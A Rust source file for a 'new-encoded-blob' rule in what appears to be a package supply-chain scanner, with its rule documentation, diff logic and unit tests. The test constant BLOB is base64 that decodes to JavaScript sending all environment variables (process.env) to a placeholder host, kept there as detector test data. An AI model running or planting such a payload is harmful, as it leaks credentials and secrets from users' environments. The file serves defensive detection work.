//! `new-encoded-blob`: a base64/hex/high-entropy string appeared in a file that had none.

use std::collections::BTreeSet;

use turncoat_finding::{Evidence, Finding, Level, RuleDoc, Severity};

use super::{DiffCx, MAX_EVIDENCE, Weight, weigh};
use crate::facts::BlobKind;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-encoded-blob",
    group: "analyze",
    severity: Severity::Low,
    default_level: Level::Warn,
    summary: "A file that had no encoded strings gained a long base64, hex or high-entropy string.",
    doc: r#"Flags string literals that look encoded — base64 of at least 100 characters, hex of at least 64, or at least 64 bytes with Shannon entropy of 5 bits per byte or more — in a file that is new or had no such string before. Files that always carried blobs (fonts, icons, test vectors) stay quiet.

**Why it matters.** Payloads travel encoded so that greps and reviewers see noise, not code. Low on its own; install-time files raise it, and `new-decode-exec` catches the blob being run.

**Example.** `const p = "aW1wb3J0IGh0dHBzIGZyb20gJ2h0dHBzJzsgaHR0cHMucmVxdWVzdCgn…"` in a patch release.

**How to silence.** A policy exception on `new-encoded-blob` for `name@version`."#,
};

fn kind(k: BlobKind) -> &'static str {
    match k {
        BlobKind::Base64 => "base64",
        BlobKind::Hex => "hex",
        BlobKind::HighEntropy => "high-entropy",
    }
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let old_blobs: BTreeSet<&str> = cx
        .old
        .scripts()
        .flat_map(|(_, js)| js.blobs.iter().map(|b| b.hash.as_str()))
        .collect();
    for (path, js) in cx.new.scripts() {
        if js.blobs.is_empty() || cx.baseline(path).is_some_and(|o| !o.blobs.is_empty()) {
            continue;
        }
        let fresh: Vec<_> = js
            .blobs
            .iter()
            .filter(|b| !old_blobs.contains(b.hash.as_str()))
            .collect();
        let Some(first) = fresh.first() else { continue };
        let install_time = cx.new.is_install_time(path);
        out.push(
            Finding::new(
                &RULE,
                format!(
                    "{path}:{} has a {}-byte {} string ({:.1} bits/byte){}, new in {}",
                    first.line,
                    first.len,
                    kind(first.kind),
                    first.entropy,
                    if fresh.len() > 1 {
                        format!(" and {} more", fresh.len() - 1)
                    } else {
                        String::new()
                    },
                    cx.to(),
                ),
            )
            .with_severity(weigh(
                RULE.severity,
                Weight::Single,
                cx.bump(),
                install_time,
            ))
            .with_evidence_all(
                fresh
                    .iter()
                    .take(MAX_EVIDENCE)
                    .map(|b| Evidence::at(path, b.line)),
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    const BLOB: &str = "aW1wb3J0IGh0dHBzIGZyb20gJ2h0dHBzJzsgaHR0cHMucmVxdWVzdCgnaHR0cHM6Ly94LmV4YW1wbGUnKS5lbmQoSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKQ==";

    #[test]
    fn new_blob_fires() {
        let f = diff_versions(
            "1.0.0",
            &[("index.js", "module.exports = 1;")],
            "1.0.1",
            &[(
                "index.js",
                &format!("const p = '{BLOB}';\nmodule.exports = 1;"),
            )],
        );
        assert_eq!(find(&f, RULE.code).map(|f| f.severity), Some(Severity::Low));
    }

    #[test]
    fn file_with_blobs_is_quiet() {
        let old = format!("const font = '{BLOB}';");
        let new = format!("const font = '{BLOB}x9Z';");
        let f = diff_versions("1.0.0", &[("f.js", &old)], "1.0.1", &[("f.js", &new)]);
        assert!(find(&f, RULE.code).is_none());
    }
}
